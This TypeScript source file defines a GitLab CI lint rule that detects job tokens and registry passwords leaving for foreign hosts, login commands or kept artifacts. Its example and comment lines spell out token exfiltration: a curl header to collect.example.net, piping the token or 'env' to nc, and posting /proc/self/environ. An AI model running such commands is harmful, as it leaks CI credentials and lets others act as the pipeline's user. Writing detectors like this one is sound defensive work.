import { z } from 'zod';
import type { Job } from '../ci/config.ts';
import { runnerJobs } from '../ci/runner-jobs.ts';
import { shownText } from '../ci/yaml-variables.ts';
import type { CommandWord, JobCommand, ScriptPlace } from '../shell/job-command.ts';
import { outermost } from '../shell/printed-text.ts';
import { keptBy } from './judging/artifact-paths.ts';
import type { HitDraft } from './judging/hit.ts';
import { addressesIn, hostOf, isForeignHost } from './judging/hosts.ts';
import { commandsThat } from './judging/in-commands.ts';
import { variablesThat } from './judging/in-variables.ts';
import { printedVariables } from './judging/prints-variables.ts';
import { inputReceiverOf, type Receiver, receiverOf } from './judging/receiving-host.ts';
import { defineRule, type RuleContext } from './rule.ts';

const messages = {
  sent: '{program} sends {value} to {host}, which is not this GitLab.',
  address: 'The address with {value} in it leads to {host}, which is not this GitLab.',
  login: '{program} logs in with {value} at {host}, which is not this GitLab.',
  artifact: '{value} is written to {file}, which the job keeps as an artifact.',
} as const;

type Context = RuleContext<typeof messages>;

export const jobTokenLeaves = defineRule({
  id: 'job-token-leaves',
  summary: 'A token that GitLab gives the job leaves for another host, or for an artifact.',
  why: 'With it anyone can act as whoever started the job for as long as the job runs: read private projects, push images, publish packages.',
  fix: 'Give the other host a token of its own, from a protected and masked variable or `id_tokens`, and write no token into artifacts.',
  blindSpots:
    'Hosts in unknown variables, hosts below the domain of this GitLab, and what scripts of the repository do with the token are not seen.',
  keywords: [
    'variables',
    'before_script',
    'script',
    'after_script',
    'run',
    'artifacts:paths',
    'artifacts:reports:dotenv',
  ],
  level: 'error',
  source: 'https://docs.gitlab.com/ci/jobs/ci_job_token/',
  examples: {
    bad: [
      { yaml: 'push:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collect.example.net/x\'\n' },
      { yaml: 'push:\n  script:\n    - docker login -u ci -p $CI_JOB_TOKEN\n' },
    ],
    good: [
      { yaml: 'push:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/job"\'\n' },
      { yaml: 'push:\n  script:\n    - docker login -u ci -p $CI_REGISTRY_PASSWORD $CI_REGISTRY\n' },
    ],
  },
  options: z.strictObject({
    allow: z.array(z.string()).default([]).describe('Hosts that may get the token.'),
  }),
  messages,
  *check(config, { allow }, context) {
    const isForeign = (host: string) => !allow.includes(host) && isForeignHost(host, context.serverFqdn);
    for (const job of runnerJobs(config)) {
      yield* inVariables(job, isForeign, context);
      for (const command of suspects(job)) {
        const named = command.words.filter(holdsToken);
        // the commands in a text of commands come by themselves
        if (!command.runsText) yield* sent(job, command, named, isForeign, context);
        yield* fed(job, command, isForeign, context);
        yield* written(job, command, named, isForeign, context);
      }
    }
  },
});

/** Tokens of the job; the password of the registry is one of them. */
const TOKENS = ['CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPENDENCY_PROXY_PASSWORD'];
const TOKEN = new RegExp(`\\$\\{?(${TOKENS.join('|')})\\b`);
const NAMED = new RegExp(`\\b(?:${TOKENS.join('|')})\\b`);

/** `curl -F f=@/proc/self/environ`: all variables of the job. */
const ENVIRONMENT_FILE = /(?:^|@)\/proc\/(?:self|\$\$|\d+)\/environ$/;

const holdsToken = (word: CommandWord) => tokenOf(word) !== null;

/** Put in by the shell, printed by a command whose output is part of the word, or asked for by a program in it. */
function tokenOf(word: CommandWord): string | null {
  const { names, text } = word;
  const put = names.length === 0 ? undefined : TOKENS.find((name) => names.includes(name));
  if (put !== undefined) return put;
  if (ENVIRONMENT_FILE.test(text)) return 'CI_JOB_TOKEN';
  if (/\b(?:environ|getenv|process\.env|ENV)\b/.test(text)) return NAMED.exec(text)?.[0] ?? null;
  if (!/\$\(|`/.test(text)) return null;
  return outermost(word.outputOf()).flatMap((inner) => printedToken(inner)?.token ?? [])[0] ?? null;
}

interface Printed extends Pick<CommandWord, 'at' | 'from'> {
  readonly token: string;
}

/** A hash of it tells nothing. */
const HASHES = /^(?:(?:sha\d*|md5|b2|ck)sum|shasum|wc)$/;

/** What the command prints, or hands on from the one before it. */
function printedToken(command: JobCommand): Printed | null {
  let printed = printedTokens.get(command);
  if (printed === undefined) {
    printed = findPrinted(command);
    printedTokens.set(command, printed);
  }
  return printed;
}

/** In a long pipe each command would ask all before it again. */
const printedTokens = new WeakMap<JobCommand, Printed | null>();

function findPrinted(command: JobCommand): Printed | null {
  if (HASHES.test(command.name)) return null;
  const isPrinted = command.name === 'printenv';
  for (const word of command.words) {
    const token = isPrinted ? TOKENS.find((name) => name === word.text) : tokenOf(word);
    if (token) return { token, at: word.at, from: word.from };
  }
  if (printedVariables(command) !== null) return { token: 'CI_JOB_TOKEN', at: command.at, from: [] };
  return inputToken(command);
}

/** What comes in through a pipe. */
function inputToken({ from }: JobCommand): Printed | null {
  for (const feeder of from) {
    const printed = printedToken(feeder);
    if (printed) return printed;
  }
  return null;
}

const suspects = commandsThat((command) => {
  return command.hereDocuments.length > 0 || command.words.some(holdsToken) || inputToken(command) !== null;
});

const addresses = variablesThat(({ at, value }) => TOKEN.test(at.value) && addressesIn(shownText(value)).length > 0);

/** `PIP_INDEX_URL`: the program that asks there is not named. */
function* inVariables(job: Job, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
  for (const { at, value } of addresses(job)) {
    const text = shownText(value);
    const host = foreignWithToken(text, isForeign);
    if (host === null) continue;
    yield hit(job, at, 'address', { value: `$${TOKEN.exec(text)?.[1]}`, host }).because(...value.from);
  }
}

type IsForeign = (host: string) => boolean;

function* sent(
  job: Job,
  command: JobCommand,
  named: readonly CommandWord[],
  isForeign: IsForeign,
  { hit }: Context,
): Iterable<HitDraft> {
  for (const [index, word] of named.entries()) {
    // told where the variable is set
    if (word.from.some((variable) => foreignWithToken(variable.value, isForeign) !== null)) continue;
    const before = command.words[command.words.indexOf(word) - 1]?.text ?? '';
    const address = foreignWithToken(KEY_OF_HOST.test(before) ? `${before}=${word.text}` : word.text, isForeign);
    const value = `$${tokenOf(word)}`;
    if (address !== null) {
      yield hit(job, word.at, 'address', { value, host: address }).because(...word.from);
      return;
    }
    const receiver = index === 0 ? (receiverOf(command) ?? ownProgram(word, command)) : null;
    if (!receiver || !isForeign(receiver.host)) continue;
    yield received(hit, job, word.at, receiver, { program: command.name, value }).because(...word.from);
    return;
  }
}

/** `npm config set //host/:_authToken $CI_JOB_TOKEN`. */
const KEY_OF_HOST = /^\/\/.*:_(?:authToken|auth|password)$/;

const LANGUAGES = /^(?:python[\d.]*|node|ruby|perl|php|deno|bun)$/;

/** A program in one line that names the token and one foreign host. */
function ownProgram({ text }: CommandWord, { name }: JobCommand): Receiver | null {
  const [address, ...others] = LANGUAGES.test(name) ? addressesIn(text) : [];
  const host = address !== undefined && others.length === 0 ? hostOf(address) : null;
  return host === null ? null : { host, how: 'sent' };
}

function received(
  hit: Context['hit'],
  job: Job,
  at: ScriptPlace,
  { host, how }: Receiver,
  values: { readonly program: string; readonly value: string },
): HitDraft {
  const draft = hit(job, at, how === 'login' ? 'login' : 'sent', { ...values, host });
  // a machine that the project deploys to may well be meant to have it
  return how === 'shell' ? draft.atMost('warning') : draft;
}

/** `echo $CI_JOB_TOKEN | nc host 80`, `nc host 80 <<< $CI_JOB_TOKEN`, `… | curl -d @- https://host`, `env | nc host 80`. */
function* fed(job: Job, command: JobCommand, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
  const receiver = inputReceiverOf(command);
  if (!receiver || !isForeign(receiver.host)) return;
  const input = inputToken(command);
  if (input) {
    const values = { program: command.name, value: `$${input.token}` };
    yield received(hit, job, input.at, receiver, values).because(...input.from);
  }
  if (command.runsText) return;
  for (const document of command.hereDocuments) {
    const token = document.quoted ? null : TOKEN.exec(document.text);
    if (!token) continue;
    const at = document.locate({ start: token.index, end: token.index + token[0].length });
    yield received(hit, job, at, receiver, { program: command.name, value: `$${token[1]}` });
  }
}

/** An address that holds the token itself; netrc names the host in words. */
function foreignWithToken(text: string, isForeign: IsForeign): string | null {
  const holding = addressesIn(text).filter((address) => TOKEN.test(address));
  const hosts = [...holding.map(hostOf), TOKEN.test(text) ? (/\bmachine\s+([\w.-]+)/.exec(text)?.[1] ?? null) : null];
  return hosts.find((host) => host !== null && isForeign(host)) ?? null;
}

/** Into a file that is kept, and what a here-document or `echo` writes for another host. */
function* written(
  job: Job,
  command: JobCommand,
  named: readonly CommandWord[],
  isForeign: IsForeign,
  { hit }: Context,
): Iterable<HitDraft> {
  const [file] = command.writesTo;
  const token = tokenForFile(command, named);
  for (const { text } of token ? filesOf(command) : []) {
    const kept = keptBy(job, text);
    if (!kept || !token) continue;
    yield hit(job, token.at, 'artifact', { value: `$${token.token}`, file: text }).because(kept.source, ...kept.from);
  }
  for (const document of command.hereDocuments) {
    const token = document.quoted ? null : TOKEN.exec(document.text);
    if (!token) continue;
    const at = document.locate({ start: token.index, end: token.index + token[0].length });
    const value = `$${token[1]}`;
    const line = document.text.split('\n').find((each) => TOKEN.test(each)) ?? '';
    const host = foreignWithToken(line, isForeign);
    if (host !== null) yield hit(job, at, 'address', { value, host });
    const kept = file ? keptBy(job, file.text) : null;
    if (kept && file) yield hit(job, at, 'artifact', { value, file: file.text }).because(kept.source, ...kept.from);
  }
}

/** What `echo` and its like write, and what `tee` is given: all variables together are told of by another rule. */
function tokenForFile(command: JobCommand, [word]: readonly CommandWord[]): Printed | null {
  if (command.name === 'tee') return printedVariables(command) === null ? inputToken(command) : null;
  const token = word && WRITERS.test(command.name) ? tokenOf(word) : null;
  return word && token !== null ? { token, at: word.at, from: word.from } : null;
}

const WRITERS = /^(?:echo|printf|cat|sed|write-output|write-host)$/i;

function filesOf({ name, words, writesTo }: JobCommand): readonly CommandWord[] {
  if (name === 'tee') return words.slice(1).filter(({ text }) => !text.startsWith('-'));
  const isInPlace = name === 'sed' && words.some(({ text }) => /^-[a-zA-Z]*i|^--in-place/.test(text));
  return isInPlace ? words.slice(-1) : writesTo;
}
